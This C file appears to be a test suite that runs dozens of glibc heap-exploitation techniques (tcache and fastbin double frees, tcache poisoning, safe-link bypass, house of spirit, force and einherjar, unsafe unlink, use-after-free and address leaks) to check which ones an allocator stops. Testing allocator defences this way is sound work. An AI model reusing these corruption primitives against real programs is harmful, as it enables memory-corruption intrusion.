// Techniques by which attackers exploit memory errors, most of them written for glibc's malloc, and
// what the allocator in force does about each (classes.h). Each makes its errors, then checks
// whether it reached its goal: an address of its choice from malloc, a block twice, overlapping
// blocks, a changed variable, or a secret. Those with glibc's names are described at
// https://github.com/shellphish/how2heap.
//
// Fake headers have glibc's form: the previous size, the chunk size with flags, the block.
#include <dlfcn.h>
#include <stdbool.h>
#include <sys/mman.h>
#include <sys/uio.h>

#include "classes.h"

typedef uintptr_t Word;

#define TECHNIQUE(name) CLASS(name, 48)

enum {
  small = 104,  // 0x70 with glibc's header
  middle = 248,
  big = 1272,
  large = 300000,
  header = 16,
  in_use = 1,     // glibc's flags
  is_mapped = 2,  //
  cached = 7,     // blocks of one size in a glibc cache
};

static void judge(bool is_reached) {
  say(is_reached ? reaches_goal : misses_goal);
  if (is_reached) _exit(0);
}

// ---- shared by the techniques ----

static bool overlap(const char* a, size_t a_bytes, const char* b, size_t b_bytes) {
  return a < b + b_bytes && b < a + a_bytes;
}

// Whether one of the next blocks overlaps the target.
static bool lies_over(const void* target, size_t target_bytes, size_t bytes, int count) {
  for (int i = 0; i < count; ++i) {
    const char* const p = opaque(malloc(bytes));
    if (p != NULL && overlap(p, bytes, target, target_bytes)) return true;
  }
  return false;
}
static bool is_handed_out(const void* target, size_t bytes) {
  for (int i = 0; i < 16; ++i) {
    if (opaque(malloc(bytes)) == target) return true;
  }
  return false;
}
static bool one_comes_twice(size_t bytes) {
  enum { most = 3000 };
  static char* block[most];
  for (int i = 0; i < most; ++i) {
    block[i] = opaque(malloc(bytes));
    for (int j = 0; j < i; ++j) {
      if (block[i] == block[j]) return true;
    }
  }
  return false;
}

// From now on, glibc puts freed blocks of this size elsewhere than into the thread's cache.
static void fill_cache(size_t bytes) {
  char* block[cached];
  for (int i = 0; i < cached; ++i) block[i] = get(bytes);
  for (int i = 0; i < cached; ++i) put(block[i]);
}

// Adjacent blocks, as close to each other as possible, in the middle of others in use.
enum { row_length = 4, in_rows = 600 };
static char* all[in_rows];
static char** get_row(size_t bytes) {
  for (int i = 0; i < in_rows; ++i) {
    char* const p = get(bytes);
    int j = i;
    for (; j > 0 && all[j - 1] > p; --j) all[j] = all[j - 1];
    all[j] = p;
  }
  char** best = all;
  for (char** row = all; row + row_length <= all + in_rows; ++row) {
    if (row[row_length - 1] - row[0] < best[row_length - 1] - best[0]) best = row;
  }
  return best;
}

// A link as the allocator writes it: glibc encodes it with its own address.
static bool links_are_encoded(void) {
  char* const a = get(small);
  char* const b = get(small);
  put(a);
  put(b);
  const bool is_encoded = *(Word*)opaque(b) == ((Word)a ^ (Word)b >> 12);
  opaque(malloc(small));
  opaque(malloc(small));
  return is_encoded;
}
static Word link_to(void* target, const void* at, bool is_encoded) {
  return is_encoded ? (Word)target ^ (Word)at >> 12 : (Word)target;
}

static void write_word(void* at, Word word) { *(volatile Word*)opaque(at) = word; }
// After the end of a block, where glibc keeps the size of the next one.
static void overflow_byte(char* a, int byte) {
  *(char*)opaque(a + malloc_usable_size(a)) = (char)byte;
}
static void overflow_word(char* a, Word word) { write_word(a + malloc_usable_size(a), word); }

static Word variable[4096] __attribute__((aligned(16)));
static const char secret[] = "the secret of some other part";

static void put_secret(char* a, size_t bytes) {
  for (size_t i = 0; i + sizeof secret <= bytes; i += sizeof secret) {
    memcpy(opaque(a + i), secret, sizeof secret);
  }
}
static bool has_secret(const char* a, size_t bytes) {
  return memmem(opaque((void*)(Word)a), bytes, secret, sizeof secret) != NULL;
}

// ---- frees of free blocks ----

// A double free at once. The block is to be allocated twice.
TECHNIQUE("tcache dup") {
  char* const a = freed(small);
  put(a);
  judge(one_comes_twice(small));
}

// Between the two frees, a write clears the marker of a free block.
TECHNIQUE("tcache dup, the second word cleared") {
  char* const a = freed(small);
  write_word(a + sizeof(Word), 0);
  put(a);
  judge(one_comes_twice(small));
}

// Another free comes between, so that a check of the list head misses it.
static void free_around_another(void) {
  char* const a = get(small);
  char* const b = get(small);
  fill_cache(small);
  put(a);
  put(b);
  put(a);
}
TECHNIQUE("fastbin dup") {
  free_around_another();
  judge(one_comes_twice(small));
}

// The block, in use and also in a list, gets a link to the stack.
TECHNIQUE("fastbin dup into the stack") {
  Word fake[32] __attribute__((aligned(16))) = {0, (small + 8) | in_use};
  const bool is_encoded = links_are_encoded();
  free_around_another();
  char* const again = opaque(calloc(1, small));
  write_word(again, link_to(is_encoded ? fake : fake + 2, again, is_encoded));
  bool is_reached = false;
  for (int i = 0; i < 3; ++i) is_reached |= opaque(calloc(1, small)) == (void*)(fake + 2);
  judge(is_reached);
}

// The free block becomes part of a larger one, which the second free then frees.
TECHNIQUE("fastbin dup, consolidated") {
  enum { greater = 0x400 };
  char* block[cached + 1];
  for (int i = 0; i <= cached; ++i) block[i] = get(small);
  for (int i = 0; i <= cached; ++i) put(block[i]);
  char* const a = block[cached];
  char* const b = get(greater);
  put(a);
  judge(lies_over(b, greater, greater, 1));
}

// A block merges with its free neighbour, and is freed again into the cache.
TECHNIQUE("house of botcake") {
  char* block[cached + 3];
  for (int i = 0; i < cached + 3; ++i) block[i] = get(middle);
  for (int i = 0; i < cached; ++i) put(block[i]);
  char* const neighbour = block[cached];
  char* const victim = block[cached + 1];
  put(victim);
  put(neighbour);
  opaque(malloc(middle));
  put(victim);
  char* const a = opaque(malloc(middle + 64));
  judge(lies_over(a, middle + 64, middle, 16));
}

// Two threads that do not own the block free it, and a third one frees another in between.
TECHNIQUE("double free, two other threads") {
  char* const a = get(small);
  char* const b = get(small);
  in_thread(put_once, a);
  in_thread(put_once, b);
  in_thread(put_once, a);
  judge(one_comes_twice(small));
}

// Another thread frees a block, and so does its owner.
TECHNIQUE("double free, another thread and the owner") {
  char* const a = get(small);
  in_thread(put_once, a);
  put(a);
  judge(one_comes_twice(small));
}

// ---- frees and uses of a block that now belongs to someone else ----

// Frees, then allocates until the memory is reused.
static char* get_at(const char* a, size_t bytes, int tries) {
  for (int i = 0; i < tries; ++i) {
    char* const p = get(bytes);
    if (p <= a && a + small <= p + bytes) return p;
    put(p);
  }
  return NULL;
}
enum { spray = 100000 };

// Reads the new owner's object through an old pointer.
static void use_after_free(size_t bytes, int tries) {
  put(get(bytes));
  char* const a = freed(bytes);
  char* const b = get_at(a, bytes, tries);
  if (b != NULL) put_secret(b, bytes);
  judge(b != NULL && has_secret(a, small));
}
TECHNIQUE("use after free, the next malloc") { use_after_free(small, 1); }
TECHNIQUE("use after free, 100000 mallocs") { use_after_free(small, spray); }
TECHNIQUE("use after free of 300 kB, the next malloc") { use_after_free(large, 1); }
TECHNIQUE("use after free of 300 kB, 10000 mallocs") { use_after_free(large, 10000); }

// Frees the new owner's block through an old pointer, so that a third owner gets it.
static void dangling_free(size_t bytes, int tries) {
  put(get(bytes));
  char* const a = freed(bytes);
  char* const b = get_at(a, bytes, tries);
  put(a);
  judge(b != NULL && get_at(b, bytes, tries) != NULL);
}
TECHNIQUE("free of another's block, the next malloc") { dangling_free(small, 1); }
TECHNIQUE("free of another's block, 100000 mallocs") { dangling_free(small, spray); }
TECHNIQUE("free of another's 300 kB, the next malloc") { dangling_free(large, 1); }

// An old pointer to an object of one size should point into objects of another size.
enum { objects = 4000, object = 1000, other_object = 3000 };
static char* free_objects(void) {
  static char* block[objects];
  for (int i = 0; i < objects; ++i) {
    block[i] = get(object);
    put_secret(block[i], object);
  }
  for (int i = 0; i < objects; ++i) put(block[i]);
  return block[objects / 2];
}
TECHNIQUE("use after free, other sizes") {
  const char* const a = free_objects();
  judge(lies_over(a, object, other_object, objects));
}

// ---- links in free blocks ----

// A write after free points a free block's link to the target.
static void poison(void* target, bool is_encoded) {
  char* const a = get(small);
  char* const b = get(small);
  put(a);
  put(b);
  write_word(b, link_to(target, b, is_encoded));
  judge(is_handed_out(target, small));
}
TECHNIQUE("tcache poisoning, stack") {
  Word fake[32] __attribute__((aligned(16))) = {0};
  poison(opaque(fake), links_are_encoded());
}
TECHNIQUE("tcache poisoning, variable") { poison(variable, links_are_encoded()); }
TECHNIQUE("tcache poisoning, block in use") { poison(get(small), links_are_encoded()); }
TECHNIQUE("tcache poisoning, 300 kB in use") { poison(get(large), links_are_encoded()); }

// The target's second word holds what a free block would have there.
TECHNIQUE("tcache poisoning, stack with a free block's key") {
  Word fake[32] __attribute__((aligned(16))) = {0};
  Word* const a = (Word*)get(small);
  put(a);
  fake[1] = ((Word*)opaque(a))[1] + 8 * ((Word)fake - (Word)a);
  opaque(malloc(small));
  poison(opaque(fake), links_are_encoded());
}

// Without knowing addresses: it decodes them from the links of free blocks.
TECHNIQUE("safe-link bypass") {
  Word fake[32] __attribute__((aligned(16))) = {0};
  char* const a = get(small);
  char* const b = get(small);
  put(a);
  put(b);
  const Word link = *(Word*)opaque(b);
  Word known = link;
  for (int i = 0; i < 5; ++i) known = link ^ known >> 12;
  write_word(b, link_to(opaque(fake), (void*)known, true));
  judge(is_handed_out(fake, small));
}

// An overflow across a glibc header into a free neighbour overwrites the link.
TECHNIQUE("overflow into a link") {
  Word fake[32] __attribute__((aligned(16))) = {0};
  const bool is_encoded = links_are_encoded();
  char** const row = get_row(small);
  put(row[2]);
  put(row[1]);
  for (char* p = row[0] + small; p < row[1]; p += sizeof(Word)) write_word(p, 0);
  write_word(row[1] - sizeof(Word), (small + 8) | in_use);
  write_word(row[1], link_to(opaque(fake), row[1], is_encoded));
  judge(is_handed_out(fake, small));
}

// A zero in the lowest byte of a link makes it point into a used neighbour.
TECHNIQUE("null byte into a link") {
  get_row(small);
  int to = in_rows / 2;
  while ((Word)all[to] % 256 < small) ++to;
  put(all[to]);
  put(all[0]);
  *(char*)opaque(all[0]) = 0;
  opaque(malloc(small));
  judge(is_handed_out((char*)((Word)all[to] & -(Word)256), small));
}

// The link of a block deep in a list; when the list moves into glibc's cache, so does the stack.
TECHNIQUE("fastbin reverse into tcache") {
  Word fake[32] __attribute__((aligned(16))) = {0};
  const bool is_encoded = links_are_encoded();
  char* block[2 * cached];
  for (int i = 0; i < 2 * cached; ++i) block[i] = get(small);
  for (int i = 0; i < 2 * cached; ++i) put(block[i]);
  char* const victim = block[cached];
  write_word(victim, link_to(opaque(is_encoded ? fake : fake + 2), victim, is_encoded));
  judge(is_handed_out(fake + 2, small));
}

// Searches the memory around the blocks for the head of their list, and overwrites it.
TECHNIQUE("list head near its blocks") {
  enum { page = 4096, reach = 512 };
  Word fake[32] __attribute__((aligned(16))) = {0};
  char* const a = get(small);
  put(get(small));
  put(a);
  for (Word at = ((Word)a & -(Word)page) - reach * page; at < (Word)a + reach * page; at += page) {
    static Word copy[page / sizeof(Word)];
    const struct iovec here = {copy, page};
    const struct iovec there = {(void*)at, page};
    if (process_vm_readv(getpid(), &here, 1, &there, 1, 0) != page) continue;
    for (size_t i = 0; i < page / sizeof(Word); ++i) {
      if (copy[i] == (Word)a) write_word((Word*)at + i, (Word)fake);
    }
  }
  judge(is_handed_out(fake, small));
}

// Links of free blocks above 1 kB: the address after a free block is on the stack.
TECHNIQUE("unsorted bin into the stack") {
  Word fake[200] __attribute__((aligned(16))) = {0};
  Word behind[8] __attribute__((aligned(16))) = {0};
  char* const a = get(big + 256);
  get(small);
  put(a);
  fake[1] = (big + 8) | in_use;
  fake[2] = (Word)a - header;
  fake[3] = (Word)behind;
  behind[2] = (Word)fake;
  fake[(big + 8) / sizeof(Word)] = big + 8;
  fake[(big + 8) / sizeof(Word) + 1] = small + 8;
  opaque(fake);
  opaque(behind);
  write_word(a + sizeof(Word), (Word)fake);
  judge(is_handed_out(fake + 2, big));
}

// The same links, to set a variable to an address in libc.
TECHNIQUE("unsorted bin attack") {
  char* const a = get(big);
  get(small);
  put(a);
  write_word(a + sizeof(Word), (Word)(variable - 2));
  opaque(malloc(big));
  judge(*(Word*)opaque(variable) != 0);
}

// The links that sort free blocks by size, to set a variable to a heap address.
TECHNIQUE("large bin attack") {
  char* const a = get(big + 16);
  get(small);
  char* const b = get(big);
  get(small);
  put(a);
  opaque(malloc(2 * big));
  put(b);
  write_word(a + 3 * sizeof(Word), (Word)(variable - 4));
  opaque(malloc(2 * big));
  judge(*(Word*)opaque(variable) != 0);
}

// A list of fake blocks on the stack, after a small free one.
TECHNIQUE("house of lore") {
  enum { fakes = cached + 2 };
  Word fake[fakes][4] __attribute__((aligned(16))) = {{0}};
  char* block[cached];
  for (int i = 0; i < cached; ++i) block[i] = get(middle);
  char* const a = get(middle);
  get(small);
  for (int i = 0; i < cached; ++i) put(block[i]);
  put(a);
  opaque(malloc(big));
  for (int i = 0; i < fakes; ++i) {
    fake[i][2] = i == 0 ? (Word)a - header : (Word)fake[i - 1];
    fake[i][3] = i == fakes - 1 ? 0 : (Word)fake[i + 1];
  }
  opaque(fake);
  write_word(a + sizeof(Word), (Word)fake[0]);
  judge(lies_over(fake, sizeof fake, middle, 2 * cached));
}

// ---- frees of fake blocks ----

static void* free_and_get_fake(void* fake) {
  Word* const word = fake;
  word[1] = (small + 8) | in_use;
  word[1 + (small + 8) / sizeof(Word)] = (small + 8) | in_use;
  put(word + 2);
  return (void*)(Word)is_handed_out(word + 2, small);
}
static void free_fake(void* fake) { judge(free_and_get_fake(fake) != NULL); }

// On the stack.
TECHNIQUE("tcache house of spirit") {
  Word fake[32] __attribute__((aligned(16))) = {0};
  free_fake(fake);
}
TECHNIQUE("house of spirit") {
  Word fake[32] __attribute__((aligned(16))) = {0};
  fill_cache(small);
  free_fake(fake);
}
TECHNIQUE("tcache house of spirit, another's stack") {
  Word fake[32] __attribute__((aligned(16))) = {0};
  judge(in_thread(free_and_get_fake, fake) != NULL);
}
TECHNIQUE("tcache house of spirit, variable") { free_fake(variable); }
TECHNIQUE("tcache house of spirit, block in use") { free_fake(get(middle)); }
TECHNIQUE("tcache house of spirit, 300 kB in use") { free_fake(get(large)); }
TECHNIQUE("house of spirit by realloc") {
  Word fake[32] __attribute__((aligned(16))) = {0, (small + 8) | in_use};
  fake[1 + (small + 8) / sizeof(Word)] = (small + 8) | in_use;
  judge(opaque(realloc(opaque(fake + 2), small)) == (void*)(fake + 2));
}
TECHNIQUE("tcache house of spirit, mapping") {
  free_fake(mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0));
}

// ---- sizes ----

// A one-byte overflow doubles the next block's size; once freed and reused, it overlaps.
TECHNIQUE("overlapping chunks") {
  char** const row = get_row(small);
  overflow_byte(row[0], 2 * (small + 8) | in_use);
  put(row[1]);
  judge(lies_over(row[2], small, 2 * small, 16));
}

// The size of a free block is enlarged.
TECHNIQUE("overlapping chunks, a free block") {
  enum { more = 0x200 };
  char** const row = get_row(big);
  write_word(row[2] + more - header, big + 8 + more);
  write_word(row[2] + more - 8, small + 8);
  put(row[1]);
  overflow_word(row[0], (big + 8 + more) | in_use);
  judge(lies_over(row[2], big, big + more, 1));
}

// A fake free block inside a used one; the next block merges with it when freed.
static void free_to_merge(char* a, char* b, Word next, Word previous) {
  fill_cache(middle);
  Word* const fake = opaque(a);
  fake[1] = middle - 8;
  fake[2] = next;
  fake[3] = previous;
  write_word(a + middle - 8, middle - 8);
  overflow_byte(a, 0);
  put(b);
}
TECHNIQUE("house of einherjar, a null byte") {
  char** const row = get_row(middle);
  free_to_merge(row[0], row[1], (Word)row[0], (Word)row[0]);
  judge(lies_over(row[0], middle, 2 * middle - 16, 1));
}

// The links of the fake block make that merge change a variable.
TECHNIQUE("unsafe unlink, a null byte") {
  char** const row = get_row(middle);
  variable[8] = (Word)row[0];
  free_to_merge(row[0], row[1], (Word)(variable + 5), (Word)(variable + 6));
  judge(*(Word*)opaque(variable + 8) != (Word)row[0]);
}

// The top of the heap gets so large that a malloc leaves the heap, and lands just before a
// variable.
TECHNIQUE("house of force") {
  char* const a = get(small);
  overflow_word(a, -(Word)1);
  opaque(malloc((Word)variable - (Word)a - small - 4 * sizeof(Word)));
  judge(lies_over(variable, sizeof variable, small, 1));
}

// The size before a mapped block covers the next block, and the free unmaps both.
TECHNIQUE("mmap overlapping chunks") {
  enum { bytes = 1 << 20, page = 4096 };
  char* low = get(bytes);
  char* high = get(bytes);
  if (low > high) {
    char* const other = low;
    low = high;
    high = other;
  }
  write_word(low - 8, 2 * (bytes + page) | is_mapped);
  put(low);
  judge(lies_over(high, bytes, 3 * bytes, 1));
}

// A flag declares a free block a new mapping, so that calloc does not clear it.
TECHNIQUE("calloc of a secret") {
  char** const row = get_row(small);
  put_secret(row[1] + 16, small - 16);
  fill_cache(small);
  put(row[1]);
  overflow_byte(row[0], (small + 8) | in_use | is_mapped);
  judge(has_secret(opaque(calloc(1, small)), small));
}

// A sized delete with too small or too large a size files the block among others.
typedef void (*Delete)(void*, size_t);
static void sized_delete(size_t bytes, size_t named) {
  const Delete delete_sized = (Delete)dlsym(RTLD_DEFAULT, "_ZdlPvm");
  if (delete_sized == NULL) _exit(2);
  char** const row = get_row(bytes);
  delete_sized(opaque(row[1]), named);
  char* const neighbour = named > bytes ? row[2] : row[1] + named;
  judge(lies_over(neighbour, 1, named, 64));
}
TECHNIQUE("sized delete, larger size") { sized_delete(small, 10 * small); }
TECHNIQUE("sized delete, smaller size") { sized_delete(10 * small, small); }

// ---- reads and changes out of bounds ----

// An overflow reaches a used neighbour, whose owner then uses it.
TECHNIQUE("overflow into a neighbour in use") {
  char** const row = get_row(small);
  const size_t distance = (size_t)(row[1] - row[0]);
  memset(opaque(row[0]), 'y', distance + 8);
  judge(*(char*)opaque(row[1]) == 'y');
}

TECHNIQUE("read of a neighbour") {
  char** const row = get_row(small);
  put_secret(row[1], small);
  judge(has_secret(row[0], (size_t)(row[1] - row[0]) + sizeof secret));
}

// The text in a block has no end.
TECHNIQUE("read of a neighbour as a string") {
  char** const row = get_row(small);
  put_secret(row[1], small);
  const size_t usable = malloc_usable_size(row[0]);
  memset(opaque(row[0]), 'x', usable);
  char copy[4 * small] = "";
  strncat(copy, opaque(row[0]), sizeof copy - 1);
  judge(strlen(copy) >= (size_t)(row[1] - row[0]) + sizeof secret - 1);
}

TECHNIQUE("read after free") {
  char* const a = get(small);
  put_secret(a, small);
  put(a);
  judge(has_secret(a, small));
}

// A new block has the contents of the last one.
TECHNIQUE("contents of the last block") {
  char* const a = get(small);
  put_secret(a, small);
  put(a);
  bool is_reached = false;
  for (int i = 0; i < 16; ++i) is_reached |= has_secret(opaque(malloc(small)), small);
  judge(is_reached);
}
TECHNIQUE("contents of blocks of another size") {
  free_objects();
  bool is_reached = false;
  for (int i = 0; i < objects; ++i)
    is_reached |= has_secret(opaque(malloc(other_object)), other_object);
  judge(is_reached);
}
TECHNIQUE("contents of the last 300 kB") {
  put(get(large));
  char* const a = get(large);
  put_secret(a, large);
  put(a);
  judge(has_secret(opaque(malloc(large)), large));
}

// A freed block reveals where blocks are.
TECHNIQUE("address of a block") {
  char* const a = get(small);
  char* const b = get(small);
  put(a);
  put(b);
  bool is_reached = false;
  for (int i = 0; i < small / 8; ++i) {
    const Word word = ((Word*)opaque(b))[i];
    is_reached |= word == (Word)a || word == ((Word)a ^ (Word)b >> 12);
  }
  judge(is_reached);
}

// A freed block reveals where the allocator is.
TECHNIQUE("address of the library") {
  bool is_reached = false;
  for (size_t bytes = 32; bytes < 2 * (size_t)large; bytes *= 2) {
    char* const a = get(bytes);
    char* const b = get(bytes);
    get(small);
    fill_cache(bytes);
    put(a);
    for (int i = 0; i < 4; ++i) {
      Word word = 0;
      const struct iovec here = {&word, sizeof word};
      const struct iovec there = {a + i * 8, sizeof word};
      Dl_info info;
      is_reached |= process_vm_readv(getpid(), &here, 1, &there, 1, 0) == sizeof word &&
                    dladdr((void*)word, &info) != 0;
    }
    put(b);
  }
  judge(is_reached);
}
